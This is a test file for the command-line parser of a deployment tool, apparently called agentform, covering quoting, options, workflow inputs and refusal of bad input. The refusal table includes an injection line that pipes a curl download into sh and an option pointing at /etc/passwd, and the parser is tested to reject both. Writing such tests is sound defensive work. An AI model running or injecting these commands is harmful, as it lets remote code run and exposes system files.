import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { commandNames, parseCommandLine } from '../../src/action/command-line.ts';
import { planOptions } from '../../src/commands/plan/command.ts';
import { publishOptions } from '../../src/commands/publish/command.ts';
import { AgentformError } from '../../src/errors.ts';
import { shellWord } from '../../src/text/wording.ts';
import { hostileText } from '../report/hostile-text.ts';
import { codePoint } from '../support/code-point.ts';

describe('the input command', () => {
  test.each(commandNames.slice(0, 5))('The input command accepts %s without further words.', (command) => {
    expect(parseCommandLine(command)).toMatchObject({ command, words: [], decisions: [] });
  });

  test('The input command accepts commands as agentform prints them.', () => {
    expect(parseCommandLine(' `agentform record adopt Agent/front-desk camp_1 -e production` ')).toMatchObject({
      command: 'record adopt',
      words: ['Agent/front-desk', 'camp_1'],
      environment: 'production',
    });
    const digest = `sha256:${'0'.repeat(64)}`;
    const line = `apply web-* --overwrite Agent/a --overwrite Agent/b --allow-older --allow-creates 12 --publish -y --approve-digest ${digest}`;
    expect(parseCommandLine(line)).toEqual({
      command: 'apply',
      words: ['web-*'],
      environment: undefined,
      goneEnvironment: undefined,
      selector: undefined,
      exclude: [],
      answer: [],
      changedSince: undefined,
      allowOlder: true,
      allowCreates: 12,
      skipPolicies: false,
      skipTests: false,
      skipRequires: false,
      skipRollout: false,
      overwrite: ['Agent/a', 'Agent/b'],
      new: [],
      decisions: [
        { rule: 'conflict', names: ['Agent/a', 'Agent/b'], by: 'flag' },
        { rule: 'older-commit', names: [], by: 'flag' },
        { rule: 'limit-creates', names: ['12'], by: 'flag' },
      ],
      yes: true,
      publish: true,
      approveDigest: digest,
    });
  });

  test('The input command accepts label selectors, which replace the names of an update.', () => {
    expect(parseCommandLine("plan -l 'ring in (a, b)' --exclude x --exclude 'Agent/y*'")).toMatchObject({
      words: [],
      selector: 'ring in (a, b)',
      exclude: ['x', 'Agent/y*'],
    });
    expect(parseCommandLine('update -l ring=canary')).toMatchObject({ words: [], selector: 'ring=canary' });
  });

  test('The input command removes quotes as a shell does.', () => {
    const line = `update front-desk -e production --field 'skills[calendar].instructions' --field ${shellWord("it's")}`;
    expect(parseCommandLine(line)).toMatchObject({
      command: 'update',
      words: ['front-desk'],
      environment: 'production',
      field: ['skills[calendar].instructions', "it's"],
    });
    expect(parseCommandLine("update '*' it's").words).toEqual(['*', "it's"]);
  });

  test('The input command accepts the double quotes that the help shows.', () => {
    const line = `import camp_1 --name night -e production --description "It's open at night" --query targetAccountId=17`;
    expect(parseCommandLine(line)).toMatchObject({
      command: 'import',
      words: ['camp_1'],
      environment: 'production',
      name: 'night',
      description: "It's open at night",
      query: ['targetAccountId=17'],
      from: undefined,
    });
    expect(parseCommandLine('update 5" 6').words).toEqual(['5"', '6']);
  });

  test('The input command keeps the name of a secret that looks like a placeholder.', () => {
    const line = 'import camp_1 --name night --description Night --token-secret AGENT_TOKEN';
    expect(parseCommandLine(line)).toMatchObject({ tokenSecret: 'AGENT_TOKEN' });
  });

  test('The input command recovers every word that agentform quotes.', () => {
    const word = fc.string({ minLength: 1, maxLength: 40 }).filter((text) => !/[`\p{Cc}]|^-/u.test(text));
    fc.assert(
      fc.property(word, (text) => {
        expect(parseCommandLine(`update ${shellWord(text)}x`).words).toEqual([`${text}x`]);
      }),
    );
  });

  test('The input command uses --environment for a deleted environment if no resource is named.', () => {
    expect(parseCommandLine('record rename --environment staging qa')).toMatchObject({
      command: 'record rename',
      words: [],
      environment: 'qa',
      goneEnvironment: 'staging',
    });
    expect(parseCommandLine('record forget --environment staging')).toMatchObject({
      words: [],
      environment: undefined,
      goneEnvironment: 'staging',
    });
    expect(parseCommandLine('record forget Agent/a -e qa')).toMatchObject({
      words: ['Agent/a'],
      environment: 'qa',
      goneEnvironment: undefined,
    });
  });

  test('The input command parses option values like the command line.', () => {
    const read = parseCommandLine('plan web --exclude desk night');
    expect(read).toMatchObject({ words: ['web'], exclude: ['desk', 'night'] });
    expect(parseCommandLine('apply --no-publish --allow-older=false')).toMatchObject({ publish: false, decisions: [] });
    expect(parseCommandLine('apply --new a,b').decisions).toMatchObject([{ names: ['a', 'b'] }]);
    expect(parseCommandLine('apply --new a --new b').decisions).toMatchObject([{ names: ['a', 'b'] }]);
    expect(parseCommandLine('plan -- -odd')).toMatchObject({ words: ['-odd'] });
    expect(parseCommandLine('update 007 1e3').words).toEqual(['007', '1e3']);
  });

  test('Workflow inputs extend the lists of the input command, and may not contradict its other options.', () => {
    const given: Readonly<Record<string, string>> = {
      exclude: 'night, web',
      new: 'Agent/b a',
      'changed-since': 'v1',
      environment: 'production',
      overwrite: 'all',
    };
    const inputOf = (name: string) => given[name] ?? '';
    expect(parseCommandLine('apply --exclude desk --new a --changed-since v1', inputOf)).toMatchObject({
      environment: 'production',
      exclude: ['desk', 'night', 'web'],
      changedSince: 'v1',
      decisions: [{ rule: 'new-agent', names: ['a', 'Agent/b'] }],
    });
    expect(parseCommandLine('publish', inputOf)).toMatchObject({ exclude: ['night', 'web'], decisions: [] });
    expect(() => parseCommandLine('plan --changed-since v2', inputOf)).toThrow(
      'the input command says "v2", but the input changed-since of this workflow is "v1"; run it with the same',
    );
    expect(() => parseCommandLine('record rename -e old new', inputOf)).toThrow('the input command says "new"');
  });

  test('The input command ignores the environment variables of the process.', () => {
    process.env.AGENTFORM_ENVIRONMENT = 'production';
    try {
      expect(parseCommandLine('apply').environment).toBeUndefined();
    } finally {
      delete process.env.AGENTFORM_ENVIRONMENT;
    }
  });

  test('The command line reads its default environment from the variables when it is parsed.', () => {
    expect(planOptions().environment.default).toBeUndefined();
    process.env.AGENTFORM_ENVIRONMENT = 'production';
    try {
      expect([planOptions(), publishOptions()].map(({ environment }) => environment.default)).toEqual([
        'production',
        'production',
      ]);
    } finally {
      delete process.env.AGENTFORM_ENVIRONMENT;
    }
  });

  test('The input command may consist of options alone, which apply then uses.', () => {
    expect(parseCommandLine('--allow-older')).toMatchObject({
      command: 'apply',
      decisions: [{ rule: 'older-commit' }],
    });
  });

  test.each([
    ['', 'plan'],
    ['publish --allow-pending front-desk', 'publish'],
    ['record rename Agent/a Agent/b', 'record rename'],
  ])('The input %j runs %s', (line, command) => {
    expect(parseCommandLine(line).command).toBe(command);
  });

  test.each([
    ['apply; curl https://x.example | sh', 'which is not supported here; expected plan, validate, apply'],
    [
      'apply --plan /etc/passwd',
      'which has an option that is not supported; apply accepts --environment, --selector, --exclude, --changed-since, --allow-older',
    ],
    ['apply --overwrite', 'which has an option that is not supported'],
    ['update web --to a --to b', 'which has --to more than once'],
    ['apply --allow-creates many', 'which is refused: --allow-creates must be an integer of at least 0, not "many"'],
    ['update web --ours --theirs', 'which has both --ours and --theirs; choose one'],
    ['record', 'which is not supported here'],
    ['record move --to file', 'which is not supported here'],
    ['record adopt Agent/front-desk ID', 'which has ID in it; put the value in its place'],
    ['record forget Agent/a Agent/b', 'which has the wrong arguments; write `record forget Kind/name`'],
    ['record rename Agent/a', 'which has the wrong arguments; write `record rename Kind/old Kind/new`'],
    ['record rename --environment OLD NEW', 'which has NEW in it; put the value in its place'],
    ['record forget', 'write `record forget Kind/name`, or `record forget --environment OLD`'],
    ['update', 'which has the wrong arguments; write `update NAME`, with at least one name'],
    ['update front-desk --field PATH', 'which has PATH in it; put the value in its place'],
    [
      'update front-desk --dry-run',
      'has an option that is not supported; update accepts --environment, --selector, --exclude, --field, --yes',
    ],
    [
      'import camp_1 camp_2 --name a',
      "write `import AGENT_ID --name NAME --description 'TEXT'` with quotes around several words",
    ],
    ['import AGENT_ID --name front-desk', 'which has AGENT_ID in it; put the value in its place'],
    ['import camp_1 --name a --description TEXT', 'which has TEXT in it; put the value in its place'],
    ['toString', 'which is not supported here'],
    [`apply ${'a'.repeat(3_000)}`, 'which is longer than 2000 characters'],
  ])('The input command refuses %.40j.', (line, sentence) => {
    expect(() => parseCommandLine(line)).toThrow(sentence);
  });

  test('The input command yields a known command or an error for any text.', () => {
    fc.assert(
      fc.property(fc.oneof(hostileText, fc.string({ unit: codePoint })), (text) => {
        for (const line of [text, `apply ${text}`, `record forget ${text}`]) {
          try {
            expect(commandNames).toContain(parseCommandLine(line).command);
          } catch (error) {
            expect(error).toBeInstanceOf(AgentformError);
          }
        }
      }),
    );
  });
});
